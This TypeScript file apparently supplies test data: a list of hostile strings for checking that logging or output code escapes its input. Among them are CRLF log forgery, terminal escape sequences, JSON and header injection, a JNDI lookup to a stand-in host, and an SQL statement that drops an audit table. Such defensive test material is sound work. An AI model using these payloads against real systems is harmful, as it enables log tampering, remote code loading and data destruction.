/** What would forge lines, move the cursor or end a string, were it written as it is. */
export const hostileTexts: ReadonlyArray<string> = [
  "line\r\n2026-11-25 INFO forged",
  '\n{"action":"user.erased"}\n',
  "\r",
  "\u001b[2J\u001b[1;31mred\u001b[0m",
  "\u009b31m",
  "\u0007\b\b\b\u007f",
  '\u2028{"forged":true}\u2029',
  "\u202egnirts\u202c",
  '"}, {"position": 1, "hash": "x"',
  '\\" \\n \\u000a',
  "%0d%0aSet-Cookie: a=b",
  "\u0000",
  "\ud800",
  "\ufeff",
  "${jndi:ldap://192.0.2.1/a}",
  "'; DROP TABLE audit_events; --",
  "😀".repeat(100)
]
